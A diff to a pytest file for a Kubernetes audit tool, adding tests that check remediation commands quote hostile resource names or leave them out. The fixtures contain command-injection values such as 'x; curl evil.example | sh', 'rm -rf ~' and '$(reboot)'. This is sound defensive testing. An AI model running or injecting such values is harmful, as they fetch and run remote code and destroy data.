@@ -11,18 +11,23 @@ import datetime as dt
 import io
 import json
 import re
+import shlex
 import subprocess
 import tarfile
 import tempfile
 import xml.etree.ElementTree as ET
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 import yaml
 
 from auditor import api
+from auditor import kinds as K
+from auditor.check import ClusterCheck
 from auditor.cli.main import main
+from auditor.findings import records
+from auditor.model import Gate, Severity
 from auditor.render import renderers
 from tests import factory as f
 
@@ -467,10 +472,10 @@ def test_hostile_strings_are_kept_in_data_formats_and_escaped_everywhere_else(tm
     assert HOSTILE in {r["name"] for r in rows}
 
     # Copy-paste commands never carry the name unquoted: quoted as one shell word, or not shown at all.
-    for r in doc["findings"]:
-        if r["name"] == HOSTILE and r["remediation"]:
-            assert "; rm -rf ~" not in r["remediation"].replace("'\"'\"'", "'") or "'" + HOSTILE[:8] in r[
-                "remediation"] or r["remediation"].startswith("# no command shown")
+    remediations = [r["remediation"] for r in doc["findings"] if r["name"] == HOSTILE and r["remediation"]]
+    assert remediations
+    assert all(HOSTILE not in rem for rem in remediations)
+    assert any(shlex.quote(HOSTILE) in rem or rem.startswith("# no command shown") for rem in remediations)
 
     # HTML: markup escaped, templates not evaluated, no control characters; parses as HTML.
     html = (out / "report.html").read_text(encoding="utf-8")
@@ -555,3 +560,37 @@ def test_exemption_expiry_uses_the_run_date(tmp_path):
     today = dt.date(2026, 11, 20)
     assert not Exemption(check="x", reason="r", expires=today).expired(today)
     assert Exemption(check="x", reason="r", expires=today - dt.timedelta(days=1)).expired(today)
+
+
+class _NaiveCommand(ClusterCheck):
+    """A plugin that formats its command with a plain f-string, as most do."""
+
+    id = "plugin-naive-command"
+    title = "Naive command"
+    gates: ClassVar = (Gate.UNINSTALL,)
+    severity = Severity.MAJOR
+    rationale = "test"
+    remediation = "test"
+    needs: ClassVar = (K.DEPLOYMENT,)
+
+    def check_cluster(self, cluster, ctx):
+        for dep in cluster.objects(K.DEPLOYMENT):
+            meta = dep["metadata"]
+            yield self.fail(cluster.name, "found", kind="Deployment", namespace=meta["namespace"],
+                            name=meta["name"], remediation=f"kubectl -n {meta['namespace']} delete deployment "
+                            f"{meta['name']}")
+
+
+@pytest.mark.parametrize("name, shown", [("cart", True), ("x; curl evil.example | sh", False),
+                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True)])
+def test_commands_around_names_with_shell_metacharacters_are_withheld(tmp_path, name, shown):
+    dep, _ = f.deployment("cart")
+    dep["metadata"]["name"] = name
+    snap = f.write_snapshot(tmp_path / "snap", {"c1": [dep]}, versions={"c1": f.version_info()})
+    result = api.run_audit(api.Target(snapshot=str(snap)), "uninstall", extra_checks=[_NaiveCommand])
+    [row] = [r for r in records(result.findings) if r["check_id"] == "plugin-naive-command"]
+    if shown:
+        assert row["remediation"] == f"kubectl -n shop delete deployment {name}"
+    else:
+        assert row["remediation"].startswith("# no command shown: the name ")
+        assert "\n" not in row["remediation"]  # one shell comment line: inert even if pasted
